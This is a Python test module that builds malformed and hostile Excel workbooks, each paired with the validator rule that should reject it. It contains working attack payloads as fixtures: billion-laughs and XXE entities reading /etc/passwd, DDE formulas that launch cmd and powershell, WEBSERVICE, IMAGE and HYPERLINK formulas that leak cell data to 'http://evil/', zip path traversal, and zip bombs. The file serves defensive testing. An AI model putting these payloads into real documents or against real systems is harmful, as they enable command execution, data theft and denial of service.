"""Files that nobody should send: each with the rule that must refuse it."""

import io
import re
import struct
import zipfile
from collections.abc import Callable, Iterator
from datetime import date
from functools import lru_cache
from xml.sax.saxutils import escape

from oba.returns.submission import Spot, sheet_names
from tests.unit.returns.filling import definition, fill, made, to_bytes

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
SHEET = "xl/worksheets/sheet2.xml"
_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 9)).replace("&a0;", "&a;")
    + "]>"
)
_ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


@lru_cache
def clean() -> bytes:
    """The filled workbook without a fault, the same bytes each time."""
    return to_bytes(fill(made()))


def repack(
    content: bytes,
    change: Callable[[str, bytes], bytes] = lambda _, part: part,
    extra: dict[str, bytes] | None = None,
    leave_out: tuple[str, ...] = (),
) -> bytes:
    """Return a workbook with parts changed, added or left out."""
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new,
    ):
        for item in old.infolist():
            if item.filename not in leave_out:
                new.writestr(item.filename, change(item.filename, old.read(item)))
        for name, part in (extra or {}).items():
            new.writestr(name, part)
    return stream.getvalue()


def in_part(name: str, old: str, new: str, content: bytes) -> bytes:
    def change(part: str, data: bytes) -> bytes:
        return data.replace(old.encode(), new.encode(), 1) if part == name else data

    return repack(content, change)


def after_root(name: str, new: str, content: bytes) -> bytes:
    """Put text in front of the root element of a part."""

    def change(part: str, data: bytes) -> bytes:
        if part != name:
            return data
        return re.sub(rb"<(?!\?)", new.encode() + b"<", data, count=1)

    return repack(content, change)


def put(sheet: str, row: int, column: int, value: object, content: bytes) -> bytes:
    """Return a workbook with another value in one cell, as a program would write it."""
    part = f"xl/worksheets/sheet{sheet_names(definition()).index(sheet) + 1}.xml"
    name = Spot(sheet, row, column).cell

    def change(this: str, data: bytes) -> bytes:
        if this != part:
            return data
        found = re.search(rf'<c r="{name}"( s="\d+")?[^>]*?(/>|>.*?</c>)'.encode(), data, re.DOTALL)
        assert found, name
        return data[: found.start()] + _cell_xml(name, (found[1] or b"").decode(), value) + data[found.end() :]

    return repack(content, change)


def _cell_xml(name: str, style: str, value: object) -> bytes:
    head = f'<c r="{name}"{style}'
    if value is None:
        text = f"{head}/>"
    elif isinstance(value, bool):
        text = f'{head} t="b"><v>{int(value)}</v></c>'
    elif isinstance(value, int | float):
        text = f"{head}><v>{value!r}</v></c>"
    elif isinstance(value, date):
        text = f"{head}><v>{(value - date(1899, 12, 30)).days}</v></c>"
    elif str(value).startswith("="):
        text = f"{head}><f>{escape(str(value)[1:])}</f><v>5</v></c>"
    else:
        text = f'{head} t="inlineStr"><is><t xml:space="preserve">{escape(str(value))}</t></is></c>'
    return text.encode()


def cell(new: str, content: bytes) -> bytes:
    """Put a cell, or anything, at the end of a sheet's data."""
    return in_part(SHEET, "</sheetData>", f"{new}</sheetData>", content)


def hand_made() -> Iterator[tuple[str, str, bytes]]:
    """Return name, rule and bytes of every hostile file made by hand."""
    base = repack(clean(), extra={"xl/sharedStrings.xml": b"<sst><si><t>Excel keeps texts here</t></si></sst>"})
    yield "empty", "OPN-01", b""
    yield "white space", "OPN-01", b" \n\t " * 50
    yield "too large", "OPN-02", b"PK\x03\x04" + bytes(10_000_001)
    for name, start in (
        ("pdf", b"%PDF-1.7\n"),
        ("rtf", b"{\\rtf1 "),
        ("png", b"\x89PNG\r\n"),
        ("gzip", b"\x1f\x8b\x08"),
        ("7z", b"7z\xbc\xaf"),
        ("program", b"MZ\x90\x00"),
        ("elf", b"\x7fELF\x02"),
        ("csv", b"Number,Question\nEH1,5\n"),
        ("html", b"<html><table>"),
        ("html in small letters", b"\xef\xbb\xbf<!doctype HTML>"),
        ("xml spreadsheet", b"<?xml version='1.0'?><Workbook/>"),
        ("noise", bytes(range(256)) * 8),
        ("old xls", OLE),
        ("utf-16", "EH1\t5".encode("utf-16")),
        ("json", b'{"EH1": 5}'),
    ):
        yield name, "OPN-04", start + b"padding, padding; padding" * 3
    yield "password", "OPN-05", OLE + "EncryptedPackage".encode("utf-16-le") + bytes(2000)
    yield "docx renamed", "OPN-04", _zip({"[Content_Types].xml": b"<a/>", "word/document.xml": b"<a/>"})
    yield "pptx renamed", "OPN-04", _zip({"[Content_Types].xml": b"<a/>", "ppt/presentation.xml": b"<a/>"})
    yield "ods renamed", "OPN-04", _zip({"mimetype": b"ods", "content.xml": b"<a/>"})
    yield "xlsb renamed", "OPN-04", _zip({"[Content_Types].xml": b"<a/>", "xl/workbook.bin": b"x"})
    yield "a zip of anything", "OPN-04", _zip({"readme.txt": b"hello"})
    yield "zip without parts", "OPN-04", _zip({}) + b""
    yield "macros", "OPN-06", repack(base, extra={"xl/vbaProject.bin": b"x"})
    macro = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    plain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    yield "macro type", "OPN-06", in_part("[Content_Types].xml", plain, macro, base)
    yield "template type", "OPN-04", in_part("[Content_Types].xml", "sheet.main+xml", "template.main+xml", base)
    yield "macro sheet", "OPN-06", repack(base, extra={"xl/macrosheets/sheet1.xml": b"<a/>"})
    yield "external link", "OPN-07", repack(base, extra={"xl/externalLinks/externalLink1.xml": b"<a/>"})
    yield "connection", "OPN-07", repack(base, extra={"xl/connections.xml": b"<a/>"})
    yield "query table", "OPN-07", repack(base, extra={"xl/queryTables/queryTable1.xml": b"<a/>"})
    link = '<Relationship Id="rIdX" Type="http://x/externalLinkPath" Target="http://evil/" TargetMode="External"/>'
    yield "external target", "OPN-07", in_part("xl/_rels/workbook.xml.rels", "</Rel", f"{link}</Rel", base)
    yield "embedded", "OPN-08", repack(base, extra={"xl/embeddings/oleObject1.bin": b"x"})
    yield "activex", "OPN-08", repack(base, extra={"xl/activeX/activeX1.xml": b"<a/>"})
    yield "ole in sheet", "OPN-08", cell("<oleObject/>", base)
    yield "billion laughs", "OPN-09", after_root(SHEET, _LAUGHS, base)
    for part in (
        "xl/workbook.xml",
        "xl/sharedStrings.xml",
        "[Content_Types].xml",
        "docProps/custom.xml",
        "xl/styles.xml",
    ):
        yield f"entity in {part}", "OPN-09", after_root(part, _ENTITY, base)
    for reference in ("XFD5", "A1048576", "XFD1048576", "BZ99999"):
        row = re.sub(r"\D", "", reference)
        yield f"cell {reference}", "OPN-10", cell(f'<row r="{row}"><c r="{reference}"><v>1</v></c></row>', base)
    yield "wide and long", "OPN-10", cell('<row r="29000"><c r="BA29000"><v>1</v></c></row>', base)
    yield "row that cannot be", "OPN-10", cell('<row r="99999999"><c><v>1</v></c></row>', base)
    for reference in ("ZZZZ9", "5A", "A", "A0B", "", "é5"):
        yield f"cell name `{reference}`", "OPN-03", cell(f'<row r="900"><c r="{reference}"><v>1</v></c></row>', base)
    for name, formula in (
        ("dde", "cmd|'/C calc'!A0"),
        ("dde with words", 'DDE("cmd";"/C calc";"x")'),
        ("powershell", "powershell|'x'!A1"),
        ("webservice", 'WEBSERVICE("http://evil/"&amp;A1)'),
        ("register", 'CALL("urlmon","x")'),
        ("picture from elsewhere", '_xlfn.IMAGE("http://evil/?"&amp;A1)'),
        ("link that tells", 'HYPERLINK("http://evil/?"&amp;A1,"more")'),
        ("rtd", 'RTD("x",,"y")'),
    ):
        yield name, "OPN-11", cell(f'<row r="900"><c r="A900"><f>{formula}</f><v>1</v></c></row>', base)
    named = "<definedNames><definedName name=\"x\">cmd|'/C calc'!A0</definedName>"
    yield "dde in a name", "OPN-11", in_part("xl/workbook.xml", "<definedNames>", named, base)
    for part in (SHEET, "xl/workbook.xml", "xl/sharedStrings.xml", "[Content_Types].xml"):
        yield f"{part} cut short", "OPN-03", repack(base, lambda n, d, p=part: d[: len(d) // 2] if n == p else d)
        yield f"{part} not xml", "OPN-03", repack(base, lambda n, d, p=part: b"\x00\xff" * 40 if n == p else d)
    for part in (1, 3, 30, 60, 90, 97, 99):
        yield f"cut at {part}%", "OPN-03", base[: len(base) * part // 100]
    yield "bomb in a sheet", "OPN-02", repack(base, lambda n, d: d + b" " * 70_000_000 if n == SHEET else d)
    yield "bomb beside", "OPN-02", repack(base, extra={"xl/media/image1.xml": b"0" * 90_000_000})
    yield "many large parts", "OPN-02", repack(base, extra={f"xl/x{n}.xml": _noise(n) for n in range(8)})
    yield "too many parts", "OPN-03", repack(base, extra={f"xl/x{n}.xml": b"<a/>" for n in range(500)})
    yield "a size that lies", "OPN-03", _lie(base)
    yield "path that climbs", "OPN-03", repack(base, extra={"../../etc/passwd": b"x"})
    yield "part twice", "OPN-03", repack(base, extra={"xl/Workbook.xml": b"<a/>"})
    yield "encrypted parts", "OPN-05", _flag(base)
    rows = ("".join(f"<c><v>{r * c * 7919 % 999983}</v></c>" for c in range(1, 51)) for r in range(900, 9900))
    many = "".join(f'<row r="{number}">{cells}</row>' for number, cells in enumerate(rows, 900))
    yield "half a million cells", "OPN-10", cell(many, base)
    texts = "<si><t>x</t></si>" * 210_000
    yield "endless texts", "OPN-02", in_part("xl/sharedStrings.xml", "</sst>", f"{texts}</sst>", base)


def _noise(seed: int) -> bytes:
    """Text that packs badly enough to pass for real, 12 MB of it."""
    import random

    chance = random.Random(seed)
    block = "".join(chance.choice("abcdefghij <>") for _ in range(60_000)).encode()
    return block * 200


def _zip(parts: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
        if not parts:
            packed.writestr("x", b"")
    return stream.getvalue()


def _entries(content: bytes) -> list[int]:
    """Return where the central directory's entries begin."""
    return [found.start() for found in re.finditer(rb"PK\x01\x02", content)]


def _lie(content: bytes) -> bytes:
    data = bytearray(content)
    for start in _entries(content):
        struct.pack_into("<I", data, start + 24, 10)
    return bytes(data)


def _flag(content: bytes) -> bytes:
    data = bytearray(content)
    for start in _entries(content):
        data[start + 8] |= 1
    return bytes(data)
